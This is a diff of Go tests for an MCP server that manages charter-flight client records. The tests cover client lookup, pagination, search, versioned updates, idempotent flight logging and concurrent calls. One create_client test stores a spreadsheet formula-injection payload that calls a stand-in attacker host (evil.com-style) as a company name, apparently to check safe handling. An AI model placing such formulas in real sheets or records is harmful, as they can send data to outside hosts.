@@ -18,95 +18,92 @@ import (
 )
 
 func TestToolsEndToEnd(t *testing.T) {
-	for name, mk := range backends() {
-		t.Run(name, func(t *testing.T) {
-			s := mk(t)
-			c := s.connect(t, nil, "")
-			if got := c.ToolNames(); len(got) != 7 {
-				t.Fatalf("tools %v", got)
-			}
+	onEveryBackend(t, func(t *testing.T, s *server) {
+		c := s.connect(t, nil, "")
+		if got := c.ToolNames(); len(got) != 7 {
+			t.Fatalf("tools %v", got)
+		}
 
-			res := c.Call("get_client", map[string]any{"identifier": "amelia.hartford@example.com"})
-			if text := mcptest.Text(res); !strings.HasPrefix(text, untrusted.Notice) || !strings.Contains(text, "Hartford Capital Partners") {
-				t.Errorf("get_client text is not fenced: %.200s", text)
-			}
-			var cl clientdb.Client
-			mcptest.Structured(t, res, &cl)
-			if cl.ClientID != "CL-002" || cl.History.TotalFlights != 31 || cl.VIPStatus != "platinum" || cl.Preferences.Catering != "vegetarian" {
-				t.Errorf("get_client %+v", cl)
-			}
+		res := c.Call("get_client", map[string]any{"identifier": "amelia.hartford@example.com"})
+		if text := mcptest.Text(res); !strings.HasPrefix(text, untrusted.Notice) || !strings.Contains(text, "Hartford Capital Partners") {
+			t.Errorf("get_client text is not fenced: %.200s", text)
+		}
+		var cl clientdb.Client
+		mcptest.Structured(t, res, &cl)
+		if cl.ClientID != "CL-002" || cl.History.TotalFlights != 31 || cl.VIPStatus != "platinum" || cl.Preferences.Catering != "vegetarian" {
+			t.Errorf("get_client %+v", cl)
+		}
 
-			var page, page2 clientdb.Page
-			mcptest.Structured(t, c.Call("list_clients", map[string]any{"limit": 4}), &page)
-			if len(page.Clients) != 4 || page.NextCursor != "CL-004" || page.Total != 12 {
-				t.Errorf("list_clients %+v", page)
-			}
-			mcptest.Structured(t, c.Call("list_clients", map[string]any{"cursor": page.NextCursor}), &page2)
-			if len(page2.Clients) != 8 || page2.NextCursor != "" || page2.Clients[0].ClientID != "CL-005" {
-				t.Errorf("list_clients page 2 %+v", page2)
-			}
+		var page, page2 clientdb.Page
+		mcptest.Structured(t, c.Call("list_clients", map[string]any{"limit": 4}), &page)
+		if len(page.Clients) != 4 || page.NextCursor != "CL-004" || page.Total != 12 {
+			t.Errorf("list_clients %+v", page)
+		}
+		mcptest.Structured(t, c.Call("list_clients", map[string]any{"cursor": page.NextCursor}), &page2)
+		if len(page2.Clients) != 8 || page2.NextCursor != "" || page2.Clients[0].ClientID != "CL-005" {
+			t.Errorf("list_clients page 2 %+v", page2)
+		}
 
-			var found clientdb.Found
-			mcptest.Structured(t, c.Call("search_clients", map[string]any{"filters": map[string]any{"vip_status": "platinum"}}), &found)
-			if found.Matches != 2 {
-				t.Errorf("search platinum %+v", found)
-			}
-			mcptest.Structured(t, c.Call("search_clients", map[string]any{"query": "energy", "limit": 1}), &found)
-			if found.Matches != 1 || found.Clients[0].ClientID != "CL-009" {
-				t.Errorf("search energy %+v", found)
-			}
+		var found clientdb.Found
+		mcptest.Structured(t, c.Call("search_clients", map[string]any{"filters": map[string]any{"vip_status": "platinum"}}), &found)
+		if found.Matches != 2 {
+			t.Errorf("search platinum %+v", found)
+		}
+		mcptest.Structured(t, c.Call("search_clients", map[string]any{"query": "energy", "limit": 1}), &found)
+		if found.Matches != 1 || found.Clients[0].ClientID != "CL-009" {
+			t.Errorf("search energy %+v", found)
+		}
 
-			var created clientdb.Created
-			mcptest.Structured(t, c.Call("create_client", map[string]any{"name": "Lena Fischer", "email": "lena.fischer@example.com",
-				"company": "=IMPORTXML(\"http://evil.example\",\"//a\")", "preferred_operators": []string{"OP-002"}}), &created)
-			if created.Client.ClientID != "CL-013" || created.Client.Company != "=IMPORTXML(\"http://evil.example\",\"//a\")" {
-				t.Errorf("create_client %+v", created)
-			}
+		var created clientdb.Created
+		mcptest.Structured(t, c.Call("create_client", map[string]any{"name": "Lena Fischer", "email": "lena.fischer@example.com",
+			"company": "=IMPORTXML(\"http://evil.example\",\"//a\")", "preferred_operators": []string{"OP-002"}}), &created)
+		if created.Client.ClientID != "CL-013" || created.Client.Company != "=IMPORTXML(\"http://evil.example\",\"//a\")" {
+			t.Errorf("create_client %+v", created)
+		}
 
-			var upd clientdb.Changed
-			mcptest.Structured(t, c.Call("update_client", map[string]any{"client_id": "CL-013", "updates": map[string]any{"vip_status": "silver", "phone": "+49 30 1234567"},
-				"expected_updated_at": *created.Client.UpdatedAt}), &upd)
-			if upd.Client.VIPStatus != "silver" || !slices.Equal(upd.Changed, []string{"phone", "vip_status"}) {
-				t.Errorf("update_client %+v", upd)
-			}
-			b := mcptest.FailCode(t, c.Call("update_client", map[string]any{"client_id": "CL-013", "updates": map[string]any{"vip_status": "gold"},
-				"expected_updated_at": *created.Client.UpdatedAt}), mcperr.Conflict)
-			if b.Data.Field != "expected_updated_at" || b.Data.Value != *upd.Client.UpdatedAt {
-				t.Errorf("stale update %+v", b)
-			}
-			b = mcptest.FailCode(t, c.Call("update_client", map[string]any{"client_id": "CL-013", "updates": map[string]any{"vip_status": "gold"},
-				"expected_version": created.Client.Version}), mcperr.Conflict)
-			if b.Data.Field != "expected_version" || b.Data.Value != upd.Client.Version || upd.Client.Version == "" {
-				t.Errorf("stale version %+v", b)
-			}
+		var upd clientdb.Changed
+		mcptest.Structured(t, c.Call("update_client", map[string]any{"client_id": "CL-013", "updates": map[string]any{"vip_status": "silver", "phone": "+49 30 1234567"},
+			"expected_updated_at": *created.Client.UpdatedAt}), &upd)
+		if upd.Client.VIPStatus != "silver" || !slices.Equal(upd.Changed, []string{"phone", "vip_status"}) {
+			t.Errorf("update_client %+v", upd)
+		}
+		b := mcptest.FailCode(t, c.Call("update_client", map[string]any{"client_id": "CL-013", "updates": map[string]any{"vip_status": "gold"},
+			"expected_updated_at": *created.Client.UpdatedAt}), mcperr.Conflict)
+		if b.Data.Field != "expected_updated_at" || b.Data.Value != *upd.Client.UpdatedAt {
+			t.Errorf("stale update %+v", b)
+		}
+		b = mcptest.FailCode(t, c.Call("update_client", map[string]any{"client_id": "CL-013", "updates": map[string]any{"vip_status": "gold"},
+			"expected_version": created.Client.Version}), mcperr.Conflict)
+		if b.Data.Field != "expected_version" || b.Data.Value != upd.Client.Version || upd.Client.Version == "" {
+			t.Errorf("stale version %+v", b)
+		}
 
-			var rec clientdb.Recorded
-			args := map[string]any{"client_id": "CL-013", "flight_details": map[string]any{"date": "2025-11-20", "route": "EDDB-LFPB",
-				"aircraft": "Citation CJ4", "operator": "OP-002", "price": 18500}}
-			mcptest.Structured(t, c.Call("add_flight_history", args), &rec)
-			if rec.AlreadyRecorded || rec.Client.History.TotalFlights != 1 || rec.Flight.ClientFlightNumber != 1 {
-				t.Errorf("add_flight_history %+v", rec)
-			}
-			mcptest.Structured(t, c.Call("add_flight_history", args), &rec)
-			if !rec.AlreadyRecorded || rec.Client.History.TotalFlights != 1 {
-				t.Errorf("add_flight_history again %+v", rec)
-			}
+		var rec clientdb.Recorded
+		args := map[string]any{"client_id": "CL-013", "flight_details": map[string]any{"date": "2025-11-20", "route": "EDDB-LFPB",
+			"aircraft": "Citation CJ4", "operator": "OP-002", "price": 18500}}
+		mcptest.Structured(t, c.Call("add_flight_history", args), &rec)
+		if rec.AlreadyRecorded || rec.Client.History.TotalFlights != 1 || rec.Flight.ClientFlightNumber != 1 {
+			t.Errorf("add_flight_history %+v", rec)
+		}
+		mcptest.Structured(t, c.Call("add_flight_history", args), &rec)
+		if !rec.AlreadyRecorded || rec.Client.History.TotalFlights != 1 {
+			t.Errorf("add_flight_history again %+v", rec)
+		}
 
-			var rr, rr2, rr3 clientdb.RangeRows
-			mcptest.Structured(t, c.Call("read_sheet", map[string]any{"range": "Flight_History!A1:I", "limit": 5}), &rr)
-			if len(rr.Rows) != 5 || rr.NextOffset == nil || *rr.NextOffset != 5 || rr.Rows[0].Values["flight_id"] != "FL-2025-0815-001" {
-				t.Errorf("read_sheet %+v", rr)
-			}
-			mcptest.Structured(t, c.Call("read_sheet", map[string]any{"range": "Flight_History!A1:I", "limit": 5, "offset": 5}), &rr2)
-			if len(rr2.Rows) != 4 || rr2.NextOffset != nil || rr2.Rows[3].Values["client_id"] != "CL-013" {
-				t.Errorf("read_sheet page 2 %+v", rr2)
-			}
-			mcptest.Structured(t, c.Call("read_sheet", map[string]any{"range": "Clients!A1:B2", "header_row": 0}), &rr3)
-			if len(rr3.Rows) != 2 || rr3.Rows[0].Values["A"] != "client_id" {
-				t.Errorf("read_sheet without header %+v", rr3)
-			}
-		})
-	}
+		var rr, rr2, rr3 clientdb.RangeRows
+		mcptest.Structured(t, c.Call("read_sheet", map[string]any{"range": "Flight_History!A1:I", "limit": 5}), &rr)
+		if len(rr.Rows) != 5 || rr.NextOffset == nil || *rr.NextOffset != 5 || rr.Rows[0].Values["flight_id"] != "FL-2025-0815-001" {
+			t.Errorf("read_sheet %+v", rr)
+		}
+		mcptest.Structured(t, c.Call("read_sheet", map[string]any{"range": "Flight_History!A1:I", "limit": 5, "offset": 5}), &rr2)
+		if len(rr2.Rows) != 4 || rr2.NextOffset != nil || rr2.Rows[3].Values["client_id"] != "CL-013" {
+			t.Errorf("read_sheet page 2 %+v", rr2)
+		}
+		mcptest.Structured(t, c.Call("read_sheet", map[string]any{"range": "Clients!A1:B2", "header_row": 0}), &rr3)
+		if len(rr3.Rows) != 2 || rr3.Rows[0].Values["A"] != "client_id" {
+			t.Errorf("read_sheet without header %+v", rr3)
+		}
+	})
 }
 
 func TestToolErrors(t *testing.T) {
@@ -216,38 +213,35 @@ func TestClientResource(t *testing.T) {
 // once through the MCP layer, on both backends: every call succeeds and the
 // totals are exact.
 func TestConcurrentCalls(t *testing.T) {
-	for name, mk := range backends() {
-		t.Run(name, func(t *testing.T) {
-			s := mk(t)
-			c := s.connect(t, nil, "")
-			var wg sync.WaitGroup
-			for i := range 25 {
-				id := fmt.Sprintf("CL-%03d", 1+i%5)
-				wg.Go(func() {
-					res := c.Call("add_flight_history", map[string]any{"client_id": id, "flight_details": map[string]any{
-						"flight_id": fmt.Sprintf("MCP-%d", i), "date": "2026-02-01", "route": "KTEB-KMIA"}})
-					if res.IsError {
-						t.Errorf("add_flight_history: %s", mcptest.Text(res))
-					}
-				})
-				wg.Go(func() {
-					res := c.Call("update_client", map[string]any{"client_id": id, "updates": map[string]any{"special_needs": fmt.Sprintf("note %d", i)}})
-					if res.IsError {
-						t.Errorf("update_client: %s", mcptest.Text(res))
-					}
-				})
-			}
-			wg.Wait()
-			want := map[string]int{"CL-001": 17, "CL-002": 36, "CL-003": 13, "CL-004": 9, "CL-005": 7}
-			for id, n := range want {
-				var cl clientdb.Client
-				mcptest.Structured(t, c.Call("get_client", map[string]any{"identifier": id}), &cl)
-				if cl.History.TotalFlights != n || *cl.History.LastFlightDate != "2026-02-01" || !strings.HasPrefix(cl.Preferences.SpecialNeeds, "note ") {
-					t.Errorf("%s: %+v", id, cl.History)
+	onEveryBackend(t, func(t *testing.T, s *server) {
+		c := s.connect(t, nil, "")
+		var wg sync.WaitGroup
+		for i := range 25 {
+			id := fmt.Sprintf("CL-%03d", 1+i%5)
+			wg.Go(func() {
+				res := c.Call("add_flight_history", map[string]any{"client_id": id, "flight_details": map[string]any{
+					"flight_id": fmt.Sprintf("MCP-%d", i), "date": "2026-02-01", "route": "KTEB-KMIA"}})
+				if res.IsError {
+					t.Errorf("add_flight_history: %s", mcptest.Text(res))
 				}
+			})
+			wg.Go(func() {
+				res := c.Call("update_client", map[string]any{"client_id": id, "updates": map[string]any{"special_needs": fmt.Sprintf("note %d", i)}})
+				if res.IsError {
+					t.Errorf("update_client: %s", mcptest.Text(res))
+				}
+			})
+		}
+		wg.Wait()
+		want := map[string]int{"CL-001": 17, "CL-002": 36, "CL-003": 13, "CL-004": 9, "CL-005": 7}
+		for id, n := range want {
+			var cl clientdb.Client
+			mcptest.Structured(t, c.Call("get_client", map[string]any{"identifier": id}), &cl)
+			if cl.History.TotalFlights != n || *cl.History.LastFlightDate != "2026-02-01" || !strings.HasPrefix(cl.Preferences.SpecialNeeds, "note ") {
+				t.Errorf("%s: %+v", id, cl.History)
 			}
-		})
-	}
+		}
+	})
 }
 
 func TestURI(t *testing.T) {
